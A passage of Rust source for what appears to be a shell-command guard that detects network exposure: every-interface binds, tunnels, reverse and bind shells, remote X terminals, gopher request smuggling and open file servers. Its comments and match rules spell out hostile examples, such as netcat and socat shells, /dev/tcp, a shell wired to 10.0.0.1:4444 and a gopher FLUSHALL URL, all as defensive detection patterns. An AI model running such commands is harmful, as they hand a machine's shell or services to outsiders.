//! Network exposure: bind flags parsed (`--host 0.0.0.0`, `--bind=::`, `-b 0.0.0.0`,
//! `HOST=0.0.0.0`, `php -S 0.0.0.0:8000`, `python -m http.server` which binds every interface
//! by default), docker `-p` publishing without a loopback address, host networking, tunnels
//! (ngrok, cloudflared, `ssh -R`, terminal sharing by tmate, upterm or sshx; not `ngrok
//! version`), a terminal drawn on another machine's X display (`xterm -display HOST:1`), bind and reverse shells (`nc -e`,
//! `socat ..EXEC`, `/dev/tcp/`, inline programs wiring a socket to `/bin/sh`), listeners (firewall teardown is the effect model's, `guard::effects`). Any option whose value is the
//! every-interface address (`-h 0.0.0.0`, `--server.address 0.0.0.0`, `-a 0.0.0.0`,
//! `-l tcp://0.0.0.0:3000`) is a bind; so is a bare `--host` to a JS dev server (vite, astro,
//! `npm run dev -- --host`), which means every interface there. A listener bound to loopback
//! (`nc -l 127.0.0.1`, `socat ..,bind=127.0.0.1`) passes; a tunnel tool's inspecting verbs
//! (`frpc verify`, `zrok status`, `cloudflared tunnel info`) open nothing. Python's file
//! servers (`http.server`, `pyftpdlib`, `uploadserver`) are warned, and blocked when they serve
//! the home directory or `/` (its keys) or take anonymous uploads.

use super::{block, warn};
use crate::guard::verdict::{Category, Risk, Violation};
use crate::guard::SimpleCommand;

pub const EXPOSED_BIND: &str = "network.exposed_bind";
pub const DOCKER_PUBLISH: &str = "network.docker_publish";
pub const TUNNEL: &str = "network.tunnel";
pub const REVERSE_SHELL: &str = "network.reverse_shell";
pub const LISTENER: &str = "network.listener";
pub const FIREWALL: &str = "network.firewall";
pub const OPEN_TO_INTERNET: &str = "network.open_to_internet";
pub const RAW_PROTOCOL: &str = "network.raw_protocol";

pub fn alternative(rule: &str) -> &'static str {
    match rule {
        EXPOSED_BIND => "bind to 127.0.0.1 (e.g. --host 127.0.0.1)",
        DOCKER_PUBLISH => "publish on loopback only: docker run -p 127.0.0.1:8080:80",
        TUNNEL => "test locally on 127.0.0.1; do not expose the machine to the internet",
        OPEN_TO_INTERNET => "allow only the addresses that need access (your own address as /32, the private network's range), never 0.0.0.0/0",
        RAW_PROTOCOL => "fetch the resource over http(s); talk to a service with its own client",
        _ => "do not open shells or listeners to the network",
    }
}

/// Subcommands of tunnel tools that inspect or configure and open nothing (`cloudflared tunnel
/// info`, `zrok status`, `frpc verify`).
pub const TUNNEL_INSPECT: &[&str] = &[
    "version",
    "help",
    "status",
    "info",
    "list",
    "ls",
    "invite",
    "verify",
    "login",
    "logout",
    "config",
    "completion",
    "update",
    "diagnose",
    "diag",
    "create",
    "delete",
    "cleanup",
    "route",
    "token",
    "overview",
    "kill",
    "prune",
    "unregister",
    "rename",
    "user",
    "stop",
    "reload",
    "disable",
];

/// Whether a tunnel tool's arguments only inspect or configure: a version or help option
/// alone, or an inspecting subcommand first (after `tunnel` for the tools that group their
/// tunnel verbs: `cloudflared tunnel info`).
fn tunnel_inspects(args: &[String]) -> bool {
    let mut positional = args.iter().filter(|a| !a.starts_with('-')).map(String::as_str);
    let verb = match positional.next() {
        Some("tunnel") => positional.next(),
        v => v,
    };
    let only_version = !args.is_empty()
        && args.iter().all(|a| {
            matches!(
                a.as_str(),
                "-v" | "--version" | "-V" | "-h" | "--help" | "version" | "help"
            )
        });
    only_version || verb.is_some_and(|v| TUNNEL_INSPECT.contains(&v))
}

/// `zorp --connect 10.0.0.1:4444 --exec /bin/sh`, `zorp tcp:host:4444 exec:/bin/sh`, `zorp -l
/// -p 4444 -e sh`: a program the guard does not know, handed a network address (or a port to
/// listen on) and a shell, wires the two together; what it is for is a reverse or bind shell.
fn socket_shell(cmd: &SimpleCommand) -> bool {
    use super::remote_execution::{names_network_address, names_socket_address, port_number};
    use crate::guard::effects::runs_unknown_program;
    // Cheap first: every shell's name has `sh` in it.
    if !cmd.argv.iter().skip(1).any(|a| a.contains("sh")) || !runs_unknown_program(cmd) {
        return false;
    }
    let args = &cmd.argv[1..];
    let listens = args.iter().enumerate().any(|(i, a)| {
        let port_after = || args.get(i + 1).is_some_and(|p| port_number(p));
        match a.split_once('=') {
            Some((k, v)) if k.starts_with("--") => {
                matches!(k, "--port" | "--listen" | "--bind") && port_number(v.rsplit(':').next().unwrap_or(v))
            }
            _ => {
                // `-p PORT`, `--listen PORT`, or a bundle of one-letter options with `l` and `p`
                // in it (`-lvnp 4444`).
                let bundle = a.len() > 2
                    && a.starts_with('-')
                    && !a.starts_with("--")
                    && a[1..].bytes().all(|b| b.is_ascii_alphabetic())
                    && a.contains('l')
                    && a.ends_with('p');
                (matches!(a.as_str(), "-p" | "--port" | "--listen") || bundle) && port_after()
            }
        }
    });
    // A shell where the program runs it: a shell's path anywhere (`/bin/sh`), or a shell as the
    // value of an option that executes (`-e sh`, `--exec=bash -i`, `--cmd sh`) or of an
    // `exec:`/`system:` address. A bare name elsewhere is configuration (`init zsh`,
    // `--shell bash`, `exec -it pod -- bash`).
    let is_shell_line = |v: &str| {
        let first = v.split_whitespace().next().unwrap_or("");
        !first.starts_with('-') && crate::guard::carriers::is_shell(crate::guard::basename(first))
    };
    // A one-letter `-e`/`-c` is an expression to some programs (`cue export -e sh URL`): there
    // the shell must be spelled as a path or run with an option (`-e /bin/sh`, `-c 'sh -i'`),
    // or the program must be opening a socket (a host and port, or a port to listen on).
    let socket = listens || names_socket_address(cmd);
    let executes = |o: &str, v: &str| match o {
        "-e" | "-c" => is_shell_line(v) && (v.starts_with('/') || v.trim().contains(' ') || socket),
        "--exec" | "--execute" | "--cmd" | "--command" | "--sh-exec" => is_shell_line(v),
        _ => false,
    };
    let shell = args.iter().enumerate().any(|(i, a)| {
        // `-e/bin/sh`: the value glued to a one-letter option.
        let a = match a.strip_prefix("-e").or_else(|| a.strip_prefix("-c")) {
            Some(glued) if glued.starts_with('/') => glued,
            _ => a.as_str(),
        };
        let path = a.starts_with('/') && a.contains("bin/") && is_shell_line(a);
        let valued = match a.split_once('=') {
            Some((k, v)) if k.starts_with('-') => executes(k, v),
            _ => i > 0 && executes(&args[i - 1], a),
        };
        let address = a
            .split_once(':')
            .is_some_and(|(k, v)| matches!(k.to_ascii_lowercase().as_str(), "exec" | "system") && is_shell_line(v));
        path || valued || address
    });
    shell && (listens || names_network_address(cmd))
}

/// Whether `addr` is a loopback address (`127.0.0.1`, `localhost`, `::1`), possibly with a port.
fn loopback(addr: &str) -> bool {
    let a = addr.trim_start_matches('[');
    a.starts_with("127.") || a.starts_with("localhost") || a.starts_with("::1")
}

fn all_interfaces(addr: &str) -> bool {
    let a = addr.trim_matches(|c| c == '[' || c == ']');
    a == "0.0.0.0" || a == "::" || a == "*" || a.starts_with("0.0.0.0:") || a.starts_with("[::]:") || a == "0"
}

const BIND_FLAGS: &[&str] = &[
    "--host",
    "--bind",
    "--listen",
    "--ip",
    "--address",
    "--addr",
    "--hostname",
    "-H",
];

/// `curl gopher://HOST:6379/_FLUSHALL%0D%0A`: a gopher URL's path after its one-character
/// type is sent as raw bytes to whatever port it names, the request-smuggling trick that
/// speaks Redis, SMTP or memcached through a URL fetcher; so is a dict URL's to a port that is
/// not dict's, and what a `telnet://` URL is fed. Browsing a gopher menu (`gopher://host/1/x`,
/// no `_` type and no encoded line breaks) or looking a word up (`dict://dict.org/d:word`)
/// sends nothing a service would take for a command.
fn raw_protocol(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    if !super::FETCHERS.contains(&cmd.name()) && !matches!(cmd.name(), "lynx" | "links" | "w3m") {
        return;
    }
    let fed = cmd.stdin_text.is_some() || cmd.inputs.iter().any(|f| f != "/dev/null");
    let smuggles = |a: &str| {
        let lower = a.trim_start_matches("--url=").to_ascii_lowercase();
        let (scheme, rest) = match lower.split_once("://") {
            Some(parts) => parts,
            None => return false,
        };
        let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
        // `user:pw@host:port`, `[::1]:port`: the port after the user and the address.
        let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
        let host_port = host_port.rsplit_once(']').map_or(host_port, |(_, p)| p);
        let port = host_port.rsplit_once(':').map(|(_, p)| p);
        let line_breaks = path.contains("%0d") || path.contains("%0a");
        match scheme {
            "gopher" | "gophers" => line_breaks || path.starts_with('_') || (path.starts_with("%5f") && path.len() > 3),
            "dict" => port.is_some_and(|p| p != "2628"),
            "telnet" => fed,
            _ => false,
        }
    };
    if cmd.argv.iter().skip(1).any(|a| smuggles(a)) {
        out.push(block(
            Category::Network,
            RAW_PROTOCOL,
            Risk::High,
            cmd,
            "sends raw bytes through a gopher, dict or telnet URL to a TCP service (request smuggling)",
        ));
    }
}

/// `xterm -display 203.0.113.7:1`, `DISPLAY=203.0.113.7:0 urxvt`: a terminal emulator (a
/// shell in a window) drawn on another machine's X server: whoever sits there types into this
/// machine's shell, a reverse shell by another protocol. Local displays (`:0`, `unix:0`,
/// `localhost:10`, which ssh's X forwarding uses) are this machine's.
fn remote_terminal(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    const TERMINALS: &[&str] = &[
        "xterm",
        "uxterm",
        "rxvt",
        "urxvt",
        "rxvt-unicode",
        "aterm",
        "eterm",
        "st",
        "xfce4-terminal",
        "gnome-terminal",
        "konsole",
        "terminator",
        "alacritty",
        "kitty",
        "lxterminal",
        "mate-terminal",
    ];
    if !TERMINALS.contains(&cmd.name()) {
        return;
    }
    let remote = |display: &str| {
        let host = display.rsplit_once(':').map_or("", |(h, _)| h);
        let host = host.trim_start_matches("tcp/");
        !host.is_empty() && host != "unix" && !loopback(host)
    };
    let option = cmd
        .argv
        .windows(2)
        .find_map(|w| matches!(w[0].as_str(), "-display" | "--display").then_some(w[1].as_str()));
    let glued = cmd.argv.iter().find_map(|a| a.strip_prefix("--display="));
    let variable = cmd.assignments.iter().find_map(|a| a.strip_prefix("DISPLAY="));
    if let Some(display) = option.or(glued).or(variable).filter(|d| remote(d)) {
        out.push(block(
            Category::Network,
            REVERSE_SHELL,
            Risk::Critical,
            cmd,
            format!("opens a terminal on the X display `{display}` of another machine: whoever sits there runs this machine's shell"),
        ));
    }
}

pub fn check(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let name = cmd.name();
    let argv = &cmd.argv;
    let n = Category::Network;
    open_to_internet(cmd, out);
    raw_protocol(cmd, out);
    remote_terminal(cmd, out);
    // Reverse / bind shells.
    // `python -c 'import socket,os..; s.connect((..)); os.dup2(..); subprocess.call(["/bin/sh"])'`:
    // an inline program wiring a socket to a shell.
    let inline = name.starts_with("python") || matches!(name, "perl" | "ruby" | "php" | "node" | "lua");
    if inline
        && argv.iter().skip(1).any(|code| {
            let lower = code.to_ascii_lowercase();
            (lower.contains("socket") || lower.contains("require(\"net\")") || lower.contains("net.connect"))
                && (lower.contains("dup2")
                    || lower.contains("pty.spawn")
                    || lower.contains("fsockopen")
                    || lower.contains(".pipe(")
                    || lower.contains("open(stdin"))
                && (lower.contains("/bin/sh")
                    || lower.contains("/bin/bash")
                    || lower.contains("sh -i")
                    || lower.contains("\"sh\""))
        })
    {
        out.push(block(
            n,
            REVERSE_SHELL,
            Risk::Critical,
            cmd,
            "an inline program connects a shell to a network socket",
        ));
        return;
    }
    // `pwsh -c '$c=New-Object Net.Sockets.TCPClient(..);$s=$c.GetStream();..iex ..'`: what
    // the socket reads is run as PowerShell and the output written back.
    let powershell = matches!(name, "pwsh" | "powershell" | "powershell.exe" | "pwsh.exe");
    if powershell
        && argv.iter().skip(1).any(|code| {
            let lower = code.to_ascii_lowercase();
            (lower.contains("sockets.tcpclient") || lower.contains("sockets.socket"))
                && lower.contains("getstream")
                && ["iex", "invoke-expression", "scriptblock", "start-process", "cmd.exe"]
                    .iter()
                    .any(|run| lower.contains(run))
        })
    {
        out.push(block(
            n,
            REVERSE_SHELL,
            Risk::Critical,
            cmd,
            "an inline PowerShell program runs what a network socket sends",
        ));
        return;
    }
    let words = || argv.iter().chain(cmd.redirects.iter()).chain(cmd.inputs.iter());
    if words().any(|a| a.contains("/dev/tcp/") || a.contains("/dev/udp/")) {
        out.push(block(
            n,
            REVERSE_SHELL,
            Risk::Critical,
            cmd,
            "opens a shell connection through /dev/tcp",
        ));
        return;
    }
    if socket_shell(cmd) {
        out.push(block(
            n,
            REVERSE_SHELL,
            Risk::Critical,
            cmd,
            format!("`{name}`, which the guard does not know, is handed both a network address and a shell: a shell on a socket"),
        ));
        return;
    }
    if matches!(name, "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd") {
        if argv
            .iter()
            .any(|a| a == "-e" || a == "-c" || a == "--exec" || a == "--sh-exec" || a.starts_with("-e"))
        {
            out.push(block(
                n,
                REVERSE_SHELL,
                Risk::Critical,
                cmd,
                "netcat hands a program (a shell) to the network",
            ));
        } else if argv
            .iter()
            .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('l'))
            // `nc -l 127.0.0.1 9001`, `nc -l -s 127.0.0.1 -p 9001`: only this machine can connect.
            && !argv[1..].iter().any(|a| loopback(a))
        {
            out.push(warn(n, LISTENER, cmd, "opens a network listener"));
        }
        return;
    }
    // `socket -svp '/bin/sh -i' 443`, `socket -qvp 'bash -i' HOST PORT`: `-p PROG` runs
    // PROG with its stdin and stdout on the connection.
    if name == "socket" {
        let program =
            argv.iter().enumerate().skip(1).any(|(i, a)| {
                a.starts_with('-') && !a.starts_with("--") && a.ends_with('p') && argv.get(i + 1).is_some()
            });
        if program {
            out.push(block(
                n,
                REVERSE_SHELL,
                Risk::Critical,
                cmd,
                "socket hands a program (a shell) to the network",
            ));
        } else if argv
            .iter()
            .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('s'))
        {
            out.push(warn(n, LISTENER, cmd, "opens a network listener"));
        }
        return;
    }
    if name == "socat" {
        let exec = argv.iter().any(|a| {
            let u = a.to_ascii_uppercase();
            u.contains("EXEC:") || u.contains("SYSTEM:")
        });
        if exec {
            out.push(block(
                n,
                REVERSE_SHELL,
                Risk::Critical,
                cmd,
                "socat connects a program (a shell) to the network",
            ));
        } else if argv.iter().any(|a| {
            let u = a.to_ascii_uppercase();
            // `TCP-LISTEN:8080,bind=127.0.0.1`: loopback only.
            u.contains("-LISTEN:") && !u.split(',').any(|o| o.strip_prefix("BIND=").is_some_and(loopback))
        }) {
            out.push(warn(n, LISTENER, cmd, "opens a network listener"));
        }
        return;
    }
    // Tunnels.
    let tunnel = match name {
        // `ngrok version`, `ngrok config check`: no tunnel opened.
        "ngrok" => !argv.get(1).is_some_and(|a| {
            matches!(
                a.as_str(),
                "version" | "help" | "--help" | "-h" | "--version" | "config" | "update" | "completion" | "diagnose"
            )
        }),
        "lt" | "localtunnel" | "bore" | "frpc" | "pagekite" | "pagekite.py" | "telebit" => !tunnel_inspects(&argv[1..]),
        // zrok opens a tunnel only to share (`zrok share public 8080`).
        "zrok" => argv.iter().any(|a| a == "share"),
        "cloudflared" => argv.iter().any(|a| a == "tunnel") && !tunnel_inspects(&argv[1..]),
        // `chisel client HOST R:socks`: a port of this machine's network opened on the server.
        "chisel" => argv.iter().any(|a| a == "client") && argv.iter().any(|a| a.starts_with("R:")),
        "ssh" | "autossh" => argv
            .iter()
            .any(|a| a == "-R" || a.starts_with("-R") || a.contains("serveo.net") || a.contains("localhost.run")),
        "tailscale" => argv.iter().any(|a| a == "funnel"),
        // Terminal sharing: this machine's shell handed to whoever holds the session's link.
        "tmate" | "sshx" | "teleconsole" => !argv.iter().skip(1).any(|a| {
            matches!(
                a.as_str(),
                "-V" | "-h" | "--help" | "--version" | "help" | "version" | "show-messages"
            )
        }),
        "upterm" => argv.iter().any(|a| a == "host"),
        // `npx localtunnel --port 3000`, `pnpm dlx ngrok http 80`.
        "npx" | "pnpx" | "bunx" | "pnpm" | "yarn" => argv
            .iter()
            .skip(1)
            .find(|a| !a.starts_with('-') && *a != "dlx" && *a != "exec")
            .is_some_and(|a| {
                matches!(
                    a.split('@').next().unwrap_or(a),
                    "localtunnel" | "lt" | "ngrok" | "cloudflared" | "untun"
                )
            }),
        _ => false,
    };
    if tunnel {
        out.push(block(
            n,
            TUNNEL,
            Risk::High,
            cmd,
            "exposes a local port to the internet through a tunnel",
        ));
        return;
    }
    // `ssh -L 0.0.0.0:8080:..`, `ssh -g -L 8080:..` (gateway ports: the forward listens on
    // every interface).
    let gateway = argv.iter().any(|a| {
        a == "-g" || (a.starts_with('-') && !a.starts_with("--") && a.len() <= 6 && a.contains('g') && !a.contains('o'))
    }) || argv
        .iter()
        .any(|a| crate::guard::ascii::contains_lowercase(a, "gatewayports=yes"));
    if matches!(name, "ssh" | "autossh")
        && argv.iter().enumerate().any(|(i, a)| {
            (a == "-L" || a == "-D")
                && argv
                    .get(i + 1)
                    .is_some_and(|v| v.starts_with("0.0.0.0:") || v.starts_with("*:") || gateway)
        })
    {
        out.push(warn(n, EXPOSED_BIND, cmd, "forwards a port on every interface"));
        return;
    }
    // Docker publishing.
    if matches!(name, "docker" | "podman" | "nerdctl") && argv.iter().any(|a| matches!(a.as_str(), "run" | "create")) {
        for (i, a) in argv.iter().enumerate() {
            let spec = if a == "-p" || a == "--publish" {
                argv.get(i + 1).map(String::as_str)
            } else {
                a.strip_prefix("--publish=")
                    .or_else(|| a.strip_prefix("-p").filter(|s| !s.is_empty()))
            };
            if let Some(spec) = spec {
                let loopback = spec.starts_with("127.") || spec.starts_with("localhost:") || spec.starts_with("[::1]:");
                if !loopback {
                    out.push(warn(
                        n,
                        DOCKER_PUBLISH,
                        cmd,
                        format!("publishes `{spec}` on every interface"),
                    ));
                    return;
                }
            }
            if a == "-P"
                || a == "--publish-all"
                || a == "--network=host"
                || a == "--net=host"
                || ((a == "--network" || a == "--net") && argv.get(i + 1).is_some_and(|v| v == "host"))
            {
                out.push(warn(
                    n,
                    DOCKER_PUBLISH,
                    cmd,
                    "exposes the container's ports on every interface",
                ));
                return;
            }
        }
    }
    // `jupyter notebook --ip=0.0.0.0 --NotebookApp.token=''`: code execution for anyone who
    // can reach the port.
    if name.starts_with("jupyter") {
        let no_auth = argv.iter().any(|a| {
            [
                "NotebookApp.token=",
                "ServerApp.token=",
                "IdentityProvider.token=",
                "NotebookApp.password=",
                "ServerApp.password=",
            ]
            .iter()
            .any(|k| {
                a.split_once(k)
                    .is_some_and(|(_, v)| v.trim_matches(|c| c == '\'' || c == '"').is_empty())
            })
        });
        let exposed = argv.iter().any(|a| {
            let v = a.split_once('=').map_or(a.as_str(), |(_, v)| v);
            all_interfaces(v) || v == "*"
        });
        if no_auth && exposed {
            out.push(block(
                n,
                EXPOSED_BIND,
                Risk::Critical,
                cmd,
                "serves Jupyter on every interface with no token: anyone who reaches the port runs code",
            ));
            return;
        }
    }
    // Options handed on to another program in one word (`--buildkitd-flags "--debug
    // --debugaddr 0.0.0.0:6666"`, `--extra-args '--host 0.0.0.0'`) are options too.
    let handed_on: Vec<String>;
    let argv = if argv.iter().skip(1).any(|a| a.contains(' ')) {
        handed_on = argv
            .iter()
            .flat_map(|a| {
                let list = a.contains(' ') && a.trim_start().starts_with('-');
                let words: Vec<String> = if list {
                    a.split_whitespace().map(String::from).collect()
                } else {
                    vec![a.clone()]
                };
                words
            })
            .collect();
        &handed_on
    } else {
        argv
    };
    // Bind flags.
    for (i, a) in argv.iter().enumerate().skip(1) {
        let value = if let Some((flag, v)) = a.split_once('=') {
            (BIND_FLAGS.contains(&flag) || flag.ends_with("HOST") || flag.ends_with("BIND")).then_some(v)
        } else if BIND_FLAGS.contains(&a.as_str())
            || (a == "-b" && !matches!(name, "git" | "cargo"))
            || (a == "-S" && name == "php")
        {
            argv.get(i + 1).map(String::as_str)
        } else {
            None
        };
        if value.is_some_and(all_interfaces) || (name == "php" && value.is_some_and(|v| v.starts_with("0.0.0.0"))) {
            exposed(cmd, out);
            return;
        }
    }
    // An address option given the every-interface address (`-h 0.0.0.0`,
    // `--server.address 0.0.0.0`): a long option named for an address, or a one-letter option
    // (search and text tools excluded: there the address is a pattern).
    let address_option = |o: &str| {
        let long = o.strip_prefix("--").map(str::to_ascii_lowercase);
        match long {
            Some(l) => ["host", "addr", "bind", "ip", "listen", "interface", "server", "url"]
                .iter()
                .any(|k| l.contains(k)),
            None => o.len() == 2 && o.starts_with('-'),
        }
    };
    let text_tool = matches!(
        name,
        "grep" | "egrep" | "fgrep" | "rg" | "ag" | "ack" | "sed" | "awk" | "echo" | "printf" | "jq" | "git" | "yq"
    );
    let option_value = argv
        .iter()
        .enumerate()
        .skip(1)
        .filter(|_| !text_tool)
        .find_map(|(i, a)| {
            let v = if a.starts_with('-') {
                a.split_once('=').filter(|(o, _)| address_option(o)).map(|(_, v)| v)
            } else {
                argv.get(i - 1).filter(|p| address_option(p)).map(|_| a.as_str())
            }?;
            let host = v.split_once("://").map_or(v, |(_, h)| h);
            // Only the spelled-out address: `0` and `*` are ordinary option values elsewhere.
            let spelled = host == "0.0.0.0"
                || host == "::"
                || host == "[::]"
                || host.starts_with("0.0.0.0:")
                || host.starts_with("[::]:");
            spelled.then_some(a)
        });
    if option_value.is_some() && !matches!(name, "iptables" | "ip6tables" | "ufw" | "nft" | "ping" | "route" | "ip") {
        exposed(cmd, out);
        return;
    }
    // `wstunnel server ws://0.0.0.0:8080`: an operand that is a listening address with a
    // scheme. A client given one (`curl http://0.0.0.0:8000`) connects to this machine.
    let client = matches!(
        name,
        "curl"
            | "wget"
            | "http"
            | "https"
            | "xh"
            | "httpie"
            | "websocat"
            | "grpcurl"
            | "open"
            | "xdg-open"
            | "ab"
            | "wrk"
            | "hey"
    );
    let listening = |a: &String| {
        a.split_once("://")
            .is_some_and(|(_, h)| h.starts_with("0.0.0.0:") || h.starts_with("[::]:") || h == "0.0.0.0")
    };
    if !client && !text_tool && argv.iter().skip(1).any(|a| !a.starts_with('-') && listening(a)) {
        exposed(cmd, out);
        return;
    }
    // `vite --host`, `npm run dev -- --host`: a bare --host exposes the dev server.
    let js = matches!(
        name,
        "vite" | "astro" | "nuxi" | "nuxt" | "npm" | "npx" | "pnpm" | "yarn" | "bun" | "bunx" | "svelte-kit"
    );
    if js
        && argv
            .iter()
            .enumerate()
            .any(|(i, a)| a == "--host" && argv.get(i + 1).is_none_or(|v| v.starts_with('-')))
    {
        out.push(warn(
            n,
            EXPOSED_BIND,
            cmd,
            "a bare --host makes the dev server listen on every interface",
        ));
        return;
    }
    if cmd
        .assignments
        .iter()
        .filter_map(|w| w.split_once('='))
        .any(|(k, v)| k.ends_with("HOST") && all_interfaces(v))
    {
        out.push(warn(n, EXPOSED_BIND, cmd, "binds a server to every network interface"));
        return;
    }
    // `mongod --bind_ip_all`, `redis-server --protected-mode no`: every interface, or no
    // authentication for whoever connects.
    if argv.iter().any(|a| a == "--bind_ip_all" || a == "--bind-ip-all")
        || (name == "redis-server" && argv.windows(2).any(|w| w[0] == "--protected-mode" && w[1] == "no"))
    {
        out.push(warn(n, EXPOSED_BIND, cmd, "binds a server to every network interface"));
        return;
    }
    python_file_server(cmd, out);
    busybox_httpd(cmd, out);
    default_file_server(cmd, out);
}

/// Static file servers that listen on every interface unless told an address: `http-server`
/// (`-a`, default 0.0.0.0), `live-server` (`--host`), `serve` (`-l`), `miniserve` (`-i`),
/// `darkhttpd` (`--addr`), `webfsd` (`-i`), `updog`, `simplehttpserver`.
const FILE_SERVERS_ON_EVERY_INTERFACE: &[&str] = &[
    "http-server",
    "live-server",
    "serve",
    "miniserve",
    "darkhttpd",
    "webfsd",
    "updog",
    "simplehttpserver",
];

/// `npx http-server`, `live-server`, `serve -l 5000`: the directory handed to every host that
/// reaches the machine, as `python3 -m http.server` is (warned the same). Told a loopback
/// address anywhere among its words (`http-server -a 127.0.0.1`, `serve -l
/// tcp://localhost:3000`), or asked for its help or version, it passes.
fn default_file_server(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    if !FILE_SERVERS_ON_EVERY_INTERFACE.contains(&cmd.name()) {
        return;
    }
    let args = &cmd.argv[1..];
    let local = args.iter().any(|a| {
        let value = a.split_once('=').map_or(a.as_str(), |(_, v)| v);
        let host = value.split_once("://").map_or(value, |(_, h)| h);
        loopback(host)
    });
    let informs = args
        .iter()
        .any(|a| matches!(a.as_str(), "-h" | "--help" | "--version" | "-V" | "help"));
    if local || informs {
        return;
    }
    out.push(warn(
        Category::Network,
        EXPOSED_BIND,
        cmd,
        format!(
            "{} serves the directory on every interface by default, with no login",
            cmd.name()
        ),
    ));
}

/// A Python file-server module and the options that bind it, name the directory served, let
/// visitors write (`*`: always), and ask for a login. Each listens on every interface by
/// default, and takes anyone.
struct FileServer {
    module: &'static str,
    bind: &'static [&'static str],
    dir: &'static [&'static str],
    write: &'static [&'static str],
    login: &'static [&'static str],
}

const PYTHON_FILE_SERVERS: &[FileServer] = &[
    FileServer {
        module: "http.server",
        bind: &["--bind", "-b"],
        dir: &["--directory", "-d"],
        write: &[],
        login: &[],
    },
    FileServer {
        module: "SimpleHTTPServer",
        bind: &[],
        dir: &[],
        write: &[],
        login: &[],
    },
    FileServer {
        module: "pyftpdlib",
        bind: &["-i", "--interface"],
        dir: &["-d", "--directory"],
        write: &["-w", "--write"],
        login: &["-u", "--username"],
    },
    FileServer {
        module: "uploadserver",
        bind: &["--bind", "-b"],
        dir: &["--directory", "-d"],
        write: &["*"],
        login: &["--basic-auth", "--basic-auth-upload"],
    },
];

/// `python3 -m http.server`, `python3 -m pyftpdlib -w -d /`: a directory handed to every host
/// that reaches the machine, with no login. Warned; blocked when visitors may write (anonymous
/// upload) or the directory served holds the user's or the system's keys (the home directory,
/// `/`, `/etc`, `/root`). Bound to loopback it passes.
fn python_file_server(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let argv = &cmd.argv;
    let Some((_, module)) = crate::guard::carriers::python_module(argv) else {
        return;
    };
    let Some(FileServer {
        bind,
        dir,
        write,
        login,
        ..
    }) = PYTHON_FILE_SERVERS.iter().find(|s| s.module == module)
    else {
        return;
    };
    let value = |opts: &[&str]| {
        argv.iter().enumerate().find_map(|(i, a)| match a.split_once('=') {
            Some((o, v)) if opts.contains(&o) => Some(v),
            _ if opts.contains(&a.as_str()) => argv.get(i + 1).map(String::as_str),
            _ => None,
        })
    };
    if value(bind).is_some_and(|v| !all_interfaces(v)) {
        return;
    }
    if value(login).is_some() {
        out.push(warn(
            Category::Network,
            EXPOSED_BIND,
            cmd,
            "serves the directory on every interface",
        ));
        return;
    }
    let served = value(dir)
        .map(str::to_string)
        .or_else(|| cmd.cwd.as_deref().map(|c| c.to_string_lossy().into_owned()));
    let keys = served.as_deref().is_some_and(holds_keys) || served_as_root(cmd);
    let writable = write.contains(&"*") || argv.iter().any(|a| write.contains(&a.as_str()));
    if keys || writable {
        out.push(block(
            Category::Network,
            EXPOSED_BIND,
            Risk::High,
            cmd,
            if writable {
                "lets anyone on the network write files here, with no login"
            } else {
                "serves the home directory or the system's root, with its keys, or serves as root, to every host on the network"
            },
        ));
    } else {
        out.push(warn(
            Category::Network,
            EXPOSED_BIND,
            cmd,
            format!("python -m {module} serves the directory on every interface, with no login"),
        ));
    }
}

/// `busybox httpd -f -p 8080 -h .`: a file server on every interface unless `-p` names a
/// loopback address. Warned like `python -m http.server`; blocked as root.
fn busybox_httpd(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let argv = &cmd.argv;
    // Unwrapped, `busybox httpd` is `httpd`; Apache's `httpd` takes neither `-p` nor `-h DIR`.
    let value = |o: &str| argv.windows(2).find(|w| w[0] == o).map(|w| w[1].as_str());
    let busybox = match cmd.name() {
        "busybox" => argv.get(1).is_some_and(|a| a == "httpd"),
        "httpd" => value("-p").is_some() || value("-h").is_some_and(|h| !h.starts_with('-')),
        _ => false,
    };
    if !busybox {
        return;
    }
    if value("-p").is_some_and(|p| p.rsplit_once(':').is_some_and(|(h, _)| !all_interfaces(h))) {
        return;
    }
    if served_as_root(cmd) || value("-h").is_some_and(holds_keys) {
        out.push(block(
            Category::Network,
            EXPOSED_BIND,
            Risk::High,
            cmd,
            "busybox httpd serves files as root, or a folder holding keys, to every host on the network, with no login",
        ));
    } else {
        out.push(warn(
            Category::Network,
            EXPOSED_BIND,
            cmd,
            "busybox httpd serves the directory on every interface, with no login",
        ));
    }
}

/// Whether a server runs with root's rights: under a privilege wrapper, or on a port below
/// 1024, which only root may bind (`python3 -m http.server 80`, `-p 443`, `-S 0.0.0.0:80`). A
/// file server run so serves whatever root can read.
pub(crate) fn served_as_root(cmd: &SimpleCommand) -> bool {
    let privileged = |w: &str| w.parse::<u16>().is_ok_and(|p| (1..1024).contains(&p));
    let args = &cmd.argv[1.min(cmd.argv.len())..];
    cmd.as_root
        || args.iter().enumerate().any(|(i, a)| {
            let port_option = matches!(a.as_str(), "-p" | "--port" | "-P") && args.get(i + 1).is_some_and(|p| privileged(p));
            let glued = a
                .strip_prefix("--port=")
                .or_else(|| a.rsplit_once(':').filter(|(h, _)| h.contains('.') || h.is_empty()).map(|(_, p)| p))
                .is_some_and(privileged);
            port_option || glued
        })
        // `python3 -m http.server 80`: the module's port operand.
        || (cmd.name().starts_with("python") && args.iter().any(|a| privileged(a)))
}

/// Whether serving `dir` hands out the user's or the system's keys: the root, a system state
/// directory, or the home directory itself (or a credential folder in it).
fn holds_keys(dir: &str) -> bool {
    let d = dir.trim_matches(['"', '\'']);
    let d = if d.len() > 1 { d.trim_end_matches('/') } else { d };
    if matches!(
        d,
        "/" | "/etc" | "/root" | "/var" | "/home" | "/Users" | "~" | "$HOME" | "${HOME}"
    ) {
        return true;
    }
    match crate::guard::targets::home_relative(d) {
        Some(rest) => {
            let rest = rest.trim_matches('/');
            rest.is_empty() || crate::guard::rules::secrets::is_credential_path(&format!("~/{rest}"))
        }
        None => ["/home/", "/Users/"].iter().any(|h| {
            d.strip_prefix(h)
